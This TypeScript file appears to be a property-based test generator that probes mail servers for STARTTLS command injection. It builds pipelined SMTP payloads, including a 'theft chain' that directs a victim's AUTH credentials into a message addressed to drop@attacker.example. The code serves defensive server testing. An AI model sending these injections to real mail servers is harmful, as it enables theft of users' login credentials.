import fc from 'fast-check';
import type { InjectionWrite } from './injection-probe.ts';

/**
 * Generated STARTTLS injections (INJ-2): what is pipelined after "STARTTLS\r\n", how its lines end,
 * how big it is, and how it is cut into writes, some of them sent only after the server's 220 (so
 * they reach it in a later read, still before the ClientHello). Everything shrinks towards one
 * write of one CRLF-terminated line.
 */
export type Endings = 'crlf' | 'lf' | 'mixed';

export interface InjectionInput {
  /** Padding lines ("NOOP xxx…", 495 octets with the CRLF) before the commands: the size dimension. */
  padding: number;
  /** Command lines; "AUTH" stands for AUTH PLAIN with the attacker's credentials. */
  commands: string[];
  endings: Endings;
  /** For "mixed": bit i (mod 31) set means line i ends in a bare LF. */
  lfBits: number;
  /** Back-to-back write boundaries, per mille of the injected bytes. */
  cuts: number[];
  /** From here on (per mille) the bytes are written after the 220; null: all before it. */
  lateFrom: number | null;
}

export const PADDING_LINE = `NOOP ${'x'.repeat(488)}`;
export const AUTH = 'AUTH';
export const ATTACKER_MAIL = 'MAIL FROM:<attacker@attacker.example>';
export const ATTACKER_RCPT = 'RCPT TO:<drop@attacker.example>';
/**
 * The credential-theft chain: the attacker's own session inside the victim's TLS, left in DATA, so
 * that the victim's commands (and its AUTH with them) become the text of the attacker's message.
 */
export const THEFT_CHAIN: readonly string[] = ['EHLO attacker.example', AUTH, ATTACKER_MAIL, ATTACKER_RCPT, 'DATA'];

const hostLabel = fc.stringMatching(/^[a-z][a-z0-9]{0,10}$/);

const command = fc.oneof(
  fc.constant('NOOP'),
  fc.constant('RSET'),
  hostLabel.map((label) => `EHLO ${label}.attacker.example`),
  fc.constant(ATTACKER_MAIL),
  fc.constant(ATTACKER_RCPT),
  fc.constant(AUTH),
  fc.constant('DATA'),
);

/** Half the runs stay small, half go past 4 KiB (9 to 18 padding lines of 495 octets). */
const padding = fc.oneof({ withCrossShrink: true }, fc.integer({ min: 0, max: 2 }), fc.integer({ min: 9, max: 18 }));

function inputArbitrary(commands: fc.Arbitrary<string[]>): fc.Arbitrary<InjectionInput> {
  return fc.record({
    padding,
    commands,
    endings: fc.constantFrom<Endings>('crlf', 'lf', 'mixed'),
    lfBits: fc.nat(),
    cuts: fc.uniqueArray(fc.integer({ min: 0, max: 1000 }), { maxLength: 3 }),
    lateFrom: fc.option(fc.integer({ min: 0, max: 1000 }), { freq: 2 }),
  });
}

/** Any mix of the submission commands, with the theft chain appended in some runs. */
export const generatedInjection = inputArbitrary(
  fc.tuple(fc.array(command, { minLength: 1, maxLength: 8 }), fc.boolean()).map(([commands, chain]) => (chain ? [...commands, ...THEFT_CHAIN] : commands)),
);

/** The theft chain itself, with the generated endings, sizes and writes. */
export const theftChainInjection = inputArbitrary(fc.constant([...THEFT_CHAIN]));

/** The AUTH line the injection carries and how the transcript shows it. */
export interface AttackerAuth {
  line: string;
  display: string;
}

/**
 * The attacker's own credentials: the target's when the harness owns the target (a built-in one), a
 * probe user's otherwise, because these bytes travel in clear before TLS.
 */
export function attackerAuth(credentials: { user: string; password: string } | undefined, external: boolean): AttackerAuth {
  if (credentials && !external) {
    const blob = Buffer.from(`\0${credentials.user}\0${credentials.password}`).toString('base64');
    return { line: `AUTH PLAIN ${blob}`, display: 'AUTH PLAIN [attacker credentials]' };
  }
  const probe = `AUTH PLAIN ${Buffer.from('\0msaspec-attacker\0not-a-password').toString('base64')}`;
  return { line: probe, display: probe };
}

interface Line {
  raw: string;
  display: string;
}

function lines(input: InjectionInput, auth: AttackerAuth): Line[] {
  const texts = [...Array.from({ length: input.padding }, () => PADDING_LINE), ...input.commands];
  return texts.map((text, i) => {
    const lf = input.endings === 'lf' || (input.endings === 'mixed' && ((input.lfBits >> (i % 31)) & 1) === 1);
    const ending = lf ? '\n' : '\r\n';
    return text === AUTH ? { raw: auth.line + ending, display: auth.display + ending } : { raw: text + ending, display: text + ending };
  });
}

/**
 * The probe's writes: the first starts with "STARTTLS\r\n". No boundary falls inside an AUTH line
 * (one that would moves to the line's end), so its credentials reach the transcript's masking whole,
 * and a cut meant to fall inside the injection still does when the AUTH line comes first.
 */
export function injectionWrites(input: InjectionInput, auth: AttackerAuth): InjectionWrite[] {
  const all = lines(input, auth);
  const payload = all.map((l) => l.raw).join('');
  const starts: number[] = [];
  let offset = 0;
  for (const line of all) {
    starts.push(offset);
    offset += line.raw.length;
  }
  const snap = (at: number): number => {
    const i = all.findIndex((l, k) => l.raw.startsWith('AUTH ') && at > starts[k]! && at < starts[k]! + l.raw.length);
    return i < 0 ? at : starts[i]! + all[i]!.raw.length;
  };
  const position = (perMille: number) => snap(Math.floor((perMille / 1000) * payload.length));
  const late = input.lateFrom === null ? payload.length + 1 : position(input.lateFrom);
  const bounds = [...new Set([0, ...input.cuts.map(position), ...(late <= payload.length ? [late] : []), payload.length])].sort((a, b) => a - b);

  const displayOf = (raw: string): string => (auth.line === auth.display ? raw : raw.split(auth.line).join(auth.display));
  const writes: InjectionWrite[] = [];
  for (let k = 0; k + 1 < bounds.length; k++) {
    const from = bounds[k]!;
    const bytes = payload.slice(from, bounds[k + 1]);
    if (bytes) writes.push({ bytes, display: displayOf(bytes), afterReady: from >= late });
  }
  // A cut at 0 sends STARTTLS alone, the injection in a second write right behind it.
  const alone = input.cuts.some((c) => position(c) === 0);
  const first = writes[0] && !writes[0].afterReady && !alone ? writes.shift()! : { bytes: '', display: '', afterReady: false };
  return [{ bytes: `STARTTLS\r\n${first.bytes}`, display: `STARTTLS\r\n${first.display}`, afterReady: false }, ...writes];
}

const DESCRIPTION_MAX = 1500;

/** The writes as a human reads them: JSON-escaped, padding folded ("x{488}"), credentials masked. */
export function describeInjection(input: InjectionInput, auth: AttackerAuth): string {
  const writes = injectionWrites(input, auth);
  const size = writes.reduce((n, w) => n + w.bytes.length, 0) - 'STARTTLS\r\n'.length;
  const all = lines(input, auth);
  const lineCount = all.length;
  const bareLf = all.filter((l) => !l.raw.endsWith('\r\n')).length;
  const endings = bareLf === 0 ? 'CRLF' : bareLf === lineCount ? 'bare LF' : `${bareLf} of them bare LF`;
  const shown = writes
    .map((w, i) => `${i === 0 ? '' : w.afterReady ? 'after the 220: ' : 'back to back: '}${JSON.stringify(w.display ?? w.bytes).replace(/x{20,}/g, (run) => `x{${run.length}}`)}`)
    .join(' | ');
  const text = `${lineCount} line${lineCount === 1 ? '' : 's'} (${endings}), ${size} octets in ${writes.length} write${writes.length === 1 ? '' : 's'}: ${shown}`;
  return text.length > DESCRIPTION_MAX ? `${text.slice(0, DESCRIPTION_MAX)}…` : text;
}
